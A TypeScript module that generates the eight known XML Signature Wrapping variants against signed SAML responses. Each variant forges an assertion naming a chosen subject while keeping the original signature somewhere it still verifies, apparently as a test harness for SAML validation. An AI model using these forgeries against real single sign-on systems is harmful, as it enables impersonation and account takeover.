/** An answer in its parts: what was signed, and the signature. */
type Parts = { readonly response: string; readonly assertion: string; readonly signature: string };

const SIGNATURE = /<(?:\w+:)?Signature xmlns.*?<\/(?:\w+:)?Signature>/s;

function partsOf(response: string): Parts {
  const assertion = /<saml:Assertion.*<\/saml:Assertion>/s.exec(response)?.[0] ?? '';
  return { response, assertion, signature: SIGNATURE.exec(assertion)?.[0] ?? '' };
}

/** The same assertion about somebody else, with another id and no signature. */
function forged({ assertion, signature }: Parts, subject: string): string {
  return assertion
    .replace(signature, '')
    .replace(/ ID="[^"]*"/, ' ID="_forged"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${subject}`);
}

const bare = ({ assertion, signature }: Parts) => assertion.replace(signature, '');
const within = (outer: string, inner: string, end: string) =>
  `${outer.slice(0, outer.lastIndexOf(end))}${inner}${outer.slice(outer.lastIndexOf(end))}`;
const signed = (assertion: string, signature: string) => assertion.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
const endOf = (signature: string) => signature.slice(signature.lastIndexOf('</'));

/**
 * The eight ways of wrapping a signature (Somorovsky and others, "On Breaking SAML", 2012): what was signed stays somewhere in the
 * document, and another assertion stands where it is read. The first two are of a signed response, the others of a signed assertion.
 */
export const WRAPPINGS: readonly (readonly [string, (xml: string, subject: string) => string])[] = [
  ['XSW1', (xml, subject) => wrappedResponse(xml, subject, (original, signature) => within(signature, original, endOf(signature)))],
  ['XSW2', (xml, subject) => wrappedResponse(xml, subject, (original, signature) => original + signature)],
  ['XSW3', (xml, subject) => change(xml, (parts) => forged(parts, subject) + parts.assertion)],
  ['XSW4', (xml, subject) => change(xml, (parts) => within(forged(parts, subject), parts.assertion, '</saml:Assertion>'))],
  ['XSW5', (xml, subject) => change(xml, (parts) => signed(forged(parts, subject), parts.signature) + bare(parts))],
  [
    'XSW6',
    (xml, subject) => change(xml, (parts) => signed(forged(parts, subject), within(parts.signature, bare(parts), endOf(parts.signature)))),
  ],
  ['XSW7', (xml, subject) => change(xml, (parts) => `<samlp:Extensions>${forged(parts, subject)}</samlp:Extensions>${parts.assertion}`)],
  [
    'XSW8',
    (xml, subject) =>
      change(xml, (parts) => {
        const prefix = /^<(\w+:)?Signature/.exec(parts.signature)?.[1] ?? '';
        const object = `<${prefix}Object>${bare(parts)}</${prefix}Object>`;
        return signed(forged(parts, subject), within(parts.signature, object, endOf(parts.signature)));
      }),
  ],
];

function change(xml: string, wrap: (parts: Parts) => string): string {
  const parts = partsOf(xml);
  return xml.replace(parts.assertion, () => wrap(parts));
}

function wrappedResponse(xml: string, subject: string, place: (original: string, signature: string) => string): string {
  const parts = partsOf(xml);
  const ofResponse = SIGNATURE.exec(xml.replace(parts.assertion, ''))?.[0] ?? parts.signature;
  const original = xml.replace(ofResponse, '');
  return original
    .replace(/ ID="[^"]*"/, ' ID="_forged-response"')
    .replace(parts.assertion, () => forged(parts, subject))
    .replace('</saml:Issuer>', () => `</saml:Issuer>${place(original, ofResponse)}`);
}
